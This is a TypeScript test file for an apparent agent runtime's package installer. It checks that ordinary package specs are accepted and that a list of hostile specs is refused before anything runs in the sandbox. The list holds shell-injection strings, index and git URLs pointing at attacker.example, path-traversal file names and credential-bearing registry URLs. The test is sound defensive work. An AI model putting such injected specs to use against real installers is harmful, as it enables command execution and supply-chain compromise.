import { writeFileSync, existsSync, mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import {
  ManagedRuntimeError,
  environmentPackagesSchema,
  isEnvironmentPackageSpec,
} from "@open-managed-agents/runtime-resource-contract";
import { describe, expect, it } from "vitest";
import { createEnvironmentPackagesInstaller } from "../src/index.js";
import { createLocalProvider } from "./support/runtime.js";

const canaryDir = mkdtempSync(join(tmpdir(), "oma-env-canary-"));
const canary = join(canaryDir, "pwned");

const HOSTILE: readonly string[] = [
  `requests; touch ${canary}`,
  `requests && touch ${canary}`,
  `requests | touch ${canary}`,
  `$(touch ${canary})`,
  `\`touch ${canary}\``,
  `requests\ntouch ${canary}`,
  `requests' ; touch '${canary}`,
  "--index-url=http://attacker.example/simple",
  "-e git+https://attacker.example/x.git",
  "-rrequirements.txt",
  "../../etc/passwd.whl",
  "/tmp/../etc/evil.whl",
  "/tmp/./x.tgz",
  "relative/path.tgz",
  "requests >=1",
  "",
  "a".repeat(300),
];

describe("package spec grammar", () => {
  it("accepts ordinary specs per manager", () => {
    const accepted: [Parameters<typeof isEnvironmentPackageSpec>[0], string][] = [
      ["pip", "requests"],
      ["pip", "requests[socks,security]>=2.31,<3"],
      ["pip", "numpy==1.26.4"],
      ["pip", "/opt/wheels/pkg-1.0-py3-none-any.whl"],
      ["npm", "typescript"],
      ["npm", "@scope/tool@^1.2.0"],
      ["npm", "/tmp/files/tool-1.0.0.tgz"],
      ["apt", "ripgrep"],
      ["apt", "libssl-dev=3.0.11-1"],
      ["apt", "/tmp/files/tool_1.0_all.deb"],
      ["cargo", "ripgrep@14.1.0"],
      ["go", "golang.org/x/tools/cmd/goimports@latest"],
      ["gem", "rake"],
    ];
    for (const [manager, spec] of accepted)
      expect(isEnvironmentPackageSpec(manager, spec), `${manager} ${spec}`).toBe(true);
  });

  it("refuses hostile specs for every manager", () => {
    for (const manager of ["pip", "npm", "apt", "cargo", "go", "gem"] as const) {
      for (const spec of HOSTILE)
        expect(isEnvironmentPackageSpec(manager, spec), `${manager} ${JSON.stringify(spec)}`).toBe(
          false,
        );
    }
    expect(environmentPackagesSchema.safeParse({ brew: ["wget"] }).success).toBe(false);
    expect(
      environmentPackagesSchema.safeParse({ go: ["golang.org/x/tools/cmd/goimports"] }).success,
    ).toBe(false);
  });

  it("refuses a hostile spec with invalid_request before anything runs in the sandbox", async () => {
    const provider = createLocalProvider();
    const runtime = await provider.create({ sessionId: "ses-hostile", workdir: "/workspace" });
    const commands: string[] = [];
    const sandbox = {
      exec: (command: string, options?: Parameters<typeof runtime.exec>[1]) => (
        commands.push(command), runtime.exec(command, options)
      ),
    };
    try {
      for (const spec of HOSTILE) {
        const error = await createEnvironmentPackagesInstaller()
          .setup({ sandbox, packages: { pip: [spec], npm: [spec] } })
          .catch((caught: unknown) => caught);
        expect(ManagedRuntimeError.hasCode(error, "invalid_request"), JSON.stringify(spec)).toBe(
          true,
        );
        expect((error as Error).message).not.toContain(canary);
      }
      expect(commands).toEqual([]);
      expect(existsSync(canary)).toBe(false);
    } finally {
      await runtime.destroy();
    }
  });

  it("refuses options that would put credentials on a command line", () => {
    writeFileSync(join(canaryDir, "x"), "");
    for (const options of [
      { pip: { indexUrl: "https://user:pass@mirror.example/simple" } },
      { npm: { registry: "https://tok@registry.example/" } },
      { toolRoot: "/workspace/../etc" },
      { extra: 1 },
    ]) {
      expect(() => createEnvironmentPackagesInstaller(options as never)).toThrow(
        expect.objectContaining({ code: "invalid_config" }),
      );
    }
  });
});
